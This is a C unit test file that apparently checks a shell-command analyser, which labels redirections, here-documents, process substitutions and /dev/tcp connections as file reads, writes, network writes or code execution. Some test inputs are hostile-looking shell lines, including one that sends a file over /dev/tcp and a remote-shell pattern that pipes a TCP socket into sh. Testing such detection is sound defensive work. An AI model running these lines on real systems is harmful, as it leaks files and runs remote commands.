/* Redirections: files, here-documents, descriptors, processes. The form of what is expected is that
 * of action_dump(). */
#include "action_dump.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>

#include <cmocka.h>

#define CHECK(cases) assert_int_equal(action_check((cases), sizeof(cases) / sizeof *(cases)), 0)

static void files_are_read_and_written(void **state) {
    (void)state;
    static const struct action_case cases[] = {
        {"> a", "filesystem_write redirection w:/h/p/a"},
        {"cat < a >> b", "filesystem_read redirection r:/h/p/a; filesystem_read cat; "
                         "filesystem_write redirection w:/h/p/b | 0>1 1>2 0>2"},
        {"cat a 2>/dev/null", "filesystem_read cat r:/h/p/a"},
        {"cat a &> b", "filesystem_read cat r:/h/p/a; filesystem_write redirection w:/h/p/b | 0>1"},
        {"cat a > \"$x\"", "filesystem_read cat r:/h/p/a; filesystem_write redirection w:{} | 0>1"},
    };
    CHECK(cases);
}

static void text_that_is_shown_is_run(void **state) {
    (void)state;
    static const struct action_case cases[] = {
        {"sh <<< 'cat a'", "filesystem_read cat r:/h/p/a"},
        {"cat <<E | sh\ncat a\nE", "filesystem_read cat; filesystem_read cat r:/h/p/a"},
        {"echo 'cat b' > s; sh s", "filesystem_read echo; filesystem_write redirection w:/h/p/s; "
                                   "lang_exec sh r:/h/p/s; filesystem_read cat r:/h/p/b | 0>1 1>2"},
        {"cat > s <<'E'\ncat b\nE\nsh s",
         "filesystem_read cat; filesystem_write redirection w:/h/p/s; lang_exec sh r:/h/p/s; "
         "filesystem_read cat r:/h/p/b | 0>1 1>2"},
        {"sh <<E\ncat $x\nE", "lang_exec sh?"},
    };
    CHECK(cases);
}

static void a_connection_is_a_host(void **state) {
    (void)state;
    static const struct action_case cases[] = {
        {"cat a > /dev/tcp/h/1",
         "filesystem_read cat r:/h/p/a; network_write redirection h:h | 0>1"},
        {"exec 5<>/dev/tcp/h/1; cat <&5 | sh",
         "network_write redirection h:h; filesystem_read exec; filesystem_read cat; lang_exec sh? "
         "| 0>2 2>3 0>3 2>3 0>3"},
        {"exec 3>/dev/tcp/h/1; cat a >&3",
         "filesystem_read exec; network_write redirection h:h; filesystem_read cat r:/h/p/a | 2>1"},
        {"exec {n}<>/dev/tcp/h/1; cat a >&$n",
         "network_write redirection h:h; filesystem_read exec; filesystem_read cat r:/h/p/a | 2>0"},
        {"cat a >&2", "filesystem_read cat r:/h/p/a"},
    };
    CHECK(cases);
}

static void processes_read_and_write_like_files(void **state) {
    (void)state;
    static const struct action_case cases[] = {
        {"cat < <(cat a)", "filesystem_read cat r:/h/p/a; filesystem_read cat | 0>1"},
        {"cat a > >(tee b)", "filesystem_read cat r:/h/p/a; filesystem_write tee w:/h/p/b | 0>1"},
        {"diff <(cat a) <(cat b)", "filesystem_read cat r:/h/p/a; filesystem_read cat r:/h/p/b; "
                                   "filesystem_read diff r:/dev/fd/{} r:/dev/fd/{} | 0>2 1>2"},
    };
    CHECK(cases);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(files_are_read_and_written),
        cmocka_unit_test(text_that_is_shown_is_run),
        cmocka_unit_test(a_connection_is_a_host),
        cmocka_unit_test(processes_read_and_write_like_files),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
